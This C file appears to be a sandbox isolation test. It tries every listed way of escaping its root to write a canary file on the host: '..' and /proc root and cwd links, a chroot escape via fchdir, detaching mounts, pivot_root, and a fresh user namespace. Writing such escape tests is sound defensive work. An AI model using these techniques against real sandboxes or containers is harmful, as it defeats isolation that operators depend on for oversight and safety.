/* attack_root CANARY: writes its own name into the file CANARY of the host (its path without the first slash) by every
 * way past a root: names above it, links of /proc, a chroot of its own, and taking off what is mounted at it. Last in
 * a user namespace of its own. Whether one of them worked is for the host to see. */
#include "attempt.h"

#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *const WAYS[] = { "/",
				    "/../",
				    "/../../../",
				    "../",
				    "/proc/self/root/",
				    "/proc/self/root/../",
				    "/proc/self/cwd/../../../../../",
				    "/proc/self/fd/0/../../../../../",
				    "/proc/1/root/",
				    "/proc/1/cwd/",
				    "/proc/1/root/../" };

static long overwrite(const char *way, const char *canary)
{
	char path[4200];
	int fd;

	snprintf(path, sizeof(path), "%s%s", way, canary);
	fd = open(path, O_WRONLY | O_CREAT, 0600);
	return fd < 0 ? -1 : write(fd, way, strlen(way));
}

static long leave_chroot(const char *canary)
{
	int root = open("/", O_RDONLY | O_DIRECTORY);

	mkdir("/tmp/chroot", 0755);
	if (chroot("/tmp/chroot") < 0 || fchdir(root) < 0)
		return -1;
	for (int i = 0; i < 20; i++)
		if (chdir("..") < 0)
			return -1;
	return overwrite("", canary);
}

static long take_off(const char *path, const char *canary)
{
	if (umount2(path, MNT_DETACH) < 0)
		return -1;
	return overwrite("/", canary) < 0 ? overwrite("/../", canary) : 0;
}

static long pivot(const char *canary)
{
	if (chdir("/tmp") < 0 || syscall(SYS_pivot_root, ".", ".") < 0 || umount2(".", MNT_DETACH) < 0)
		return -1;
	return take_off("/", canary);
}

static void attack(const char *canary)
{
	for (unsigned i = 0; i < sizeof(WAYS) / sizeof(*WAYS); i++)
		attempt(WAYS[i], overwrite(WAYS[i], canary));
	attempt("umount:/..", take_off("/..", canary));
	attempt("umount:/", take_off("/", canary));
	attempt("chroot", leave_chroot(canary));
	attempt("pivot", pivot(canary));
}

int main(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	attack(argv[1]);
	attempt("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS));
	attack(argv[1]);
	return 0;
}
